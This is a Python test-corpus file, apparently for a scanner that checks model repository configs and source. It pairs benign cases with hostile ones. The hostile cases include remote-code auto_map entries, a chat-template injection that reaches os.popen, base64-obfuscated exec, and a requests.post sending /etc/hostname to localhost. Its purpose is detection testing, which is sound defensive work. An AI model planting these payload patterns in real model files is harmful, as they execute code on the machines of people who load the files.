"""JSON configs and Python source: ordinary files and custom-code hooks."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable

from proxy.models import Severity
from tests.corpus_formats.common import CHATML, LLAMA3, TOOLS, benign, hostile, ssti_template

# -- JSON configs ----------------------------------------------------------------------------------------

_LLAMA_CONFIG = {
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "hidden_size": 64,
    "num_attention_heads": 4,
    "rope_scaling": None,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.45.0",
}


def _json(document: object) -> Callable[[str], bytes]:
    return lambda m: json.dumps(document, indent=2).encode()


def _tokenizer_config(template: object) -> dict[str, object]:
    return {
        "bos_token": "<s>",
        "eos_token": "</s>",
        "model_max_length": 2048,
        "chat_template": template,
        "tokenizer_class": "LlamaTokenizer",
    }


CONFIG_CASES = [
    benign("cfg-benign-config", "config.json", "config", _json(_LLAMA_CONFIG)),
    benign("cfg-benign-tokenizer", "tokenizer_config.json", "config", _json(_tokenizer_config(LLAMA3))),
    benign(
        "cfg-benign-template-list",
        "tokenizer_config.json",
        "config",
        _json(_tokenizer_config([{"name": "default", "template": CHATML}, {"name": "tool_use", "template": TOOLS}])),
    ),
    benign("cfg-benign-generation", "generation_config.json", "config", _json({"do_sample": True, "top_p": 0.9})),
    benign("cfg-benign-no-remote-code", "config.json", "config", _json({**_LLAMA_CONFIG, "trust_remote_code": False})),
    hostile(
        "cfg-auto-map",
        "config.json",
        "config",
        "config.auto-map",
        Severity.MEDIUM,
        _json(
            {
                **_LLAMA_CONFIG,
                "auto_map": {
                    "AutoConfig": "configuration_evil.EvilConfig",
                    "AutoModelForCausalLM": "modeling_evil.EvilForCausalLM",
                },
            }
        ),
    ),
    hostile(
        "cfg-auto-map-remote",
        "tokenizer_config.json",
        "config",
        "config.auto-map-remote",
        Severity.HIGH,
        _json(
            {**_tokenizer_config(None), "auto_map": {"AutoTokenizer": ["attacker/payloads--tokenization_x.Tok", None]}}
        ),
    ),
    hostile(
        "cfg-auto-map-nested-remote",
        "config.json",
        "config",
        "config.auto-map-remote",
        Severity.HIGH,
        _json({**_LLAMA_CONFIG, "text_config": {"auto_map": {"AutoModel": "someone/else--modeling.M"}}}),
    ),
    hostile(
        "cfg-custom-pipelines",
        "config.json",
        "config",
        "config.auto-map",
        Severity.MEDIUM,
        _json({**_LLAMA_CONFIG, "custom_pipelines": {"text-generation": {"impl": "pipe.Evil", "pt": ["AutoModel"]}}}),
    ),
    hostile(
        "cfg-trust-remote-code",
        "config.json",
        "config",
        "config.auto-map",
        Severity.MEDIUM,
        _json({**_LLAMA_CONFIG, "trust_remote_code": True}),
    ),
    hostile(
        "cfg-template-ssti",
        "tokenizer_config.json",
        "config",
        "template.dunder-access",
        Severity.CRITICAL,
        lambda m: json.dumps(_tokenizer_config(ssti_template(m))).encode(),
    ),
    hostile(
        "cfg-template-list-ssti",
        "tokenizer_config.json",
        "config",
        "template.global-escape",
        Severity.CRITICAL,
        lambda m: json.dumps(
            _tokenizer_config(
                [
                    {"name": "default", "template": CHATML},
                    {"name": "tool_use", "template": f"{{{{ joiner.__init__.__globals__.os.popen('touch {m}') }}}}"},
                ]
            )
        ).encode(),
    ),
    hostile(
        "cfg-invalid-json",
        "config.json",
        "config",
        "config.invalid-json",
        Severity.LOW,
        lambda m: b'{"model_type": "llama",',
    ),
]

# -- Python source ---------------------------------------------------------------------------------------

_MODELING = '''"""A modeling file of the ordinary kind."""
import math
import os

import torch
from torch import nn

from .configuration_tiny import TinyConfig

logger = __import__("logging").getLogger(__name__)


class TinyModel(nn.Module):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.cache_dir = os.path.join(os.path.expanduser("~"), ".cache", "tiny")

    def forward(self, x):
        return torch.tanh(self.proj(x)) * math.sqrt(2.0)
'''


def _source(text: str) -> Callable[[str], bytes]:
    return lambda m: text.replace("MARKER", m).encode()


SOURCE_CASES = [
    benign("py-benign-modeling", "modeling_tiny.py", "source", _source(_MODELING), Severity.MEDIUM),
    benign(
        "py-benign-hubconf",
        "hubconf.py",
        "source",
        _source(
            "dependencies = ['torch']\nimport torch\n\ndef tiny(pretrained=False):\n    return torch.nn.Linear(2, 2)\n"
        ),
        Severity.MEDIUM,
    ),
    hostile(
        "py-os-system",
        "modeling_x.py",
        "source",
        "code.dangerous-call",
        Severity.HIGH,
        _source("import os\nos.system('touch MARKER')\n"),
    ),
    hostile(
        "py-subprocess-alias",
        "modeling_x.py",
        "source",
        "code.dangerous-import",
        Severity.HIGH,
        _source("import subprocess as sp\nsp.run(['touch', 'MARKER'])\n"),
    ),
    hostile(
        "py-dunder-import",
        "hubconf.py",
        "source",
        "code.dangerous-call",
        Severity.HIGH,
        _source("__import__('os').popen('touch MARKER')\n"),
    ),
    hostile(
        "py-base64-exec",
        "modeling_x.py",
        "source",
        "code.obfuscated-exec",
        Severity.CRITICAL,
        lambda m: (
            "import base64\nexec(base64.b64decode('"
            + base64.b64encode(f"import os; os.system('touch {m}')".encode()).decode()
            + "'))\n"
        ).encode(),
    ),
    hostile(
        "py-socket-shell",
        "modeling_x.py",
        "source",
        "code.dangerous-call",
        Severity.HIGH,
        _source("import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\n"),
    ),
    hostile(
        "py-exec-string",
        "modeling_x.py",
        "source",
        "code.dangerous-call",
        Severity.HIGH,
        _source("exec(\"import os; os.system('touch MARKER')\")\n"),
    ),
    hostile(
        "py-getattr-builtins",
        "modeling_x.py",
        "source",
        "code.dynamic-exec",
        Severity.HIGH,
        _source("import builtins\ngetattr(builtins, 'exec')(\"open('MARKER', 'w')\")\n"),
    ),
    hostile(
        "py-requests-exfil",
        "modeling_x.py",
        "source",
        "code.dangerous-call",
        Severity.HIGH,
        _source("import requests\nrequests.post('http://127.0.0.1:9', data=open('/etc/hostname').read())\n"),
    ),
    hostile(
        "py-pickle-loads",
        "modeling_x.py",
        "source",
        "code.dangerous-call",
        Severity.HIGH,
        _source("import pickle\nstate = pickle.loads(open('blob.bin', 'rb').read())\n"),
    ),
    hostile(
        "py-syntax-error",
        "modeling_x.py",
        "source",
        "code.syntax",
        Severity.MEDIUM,
        _source("def broken(:\n    pass\n"),
    ),
]
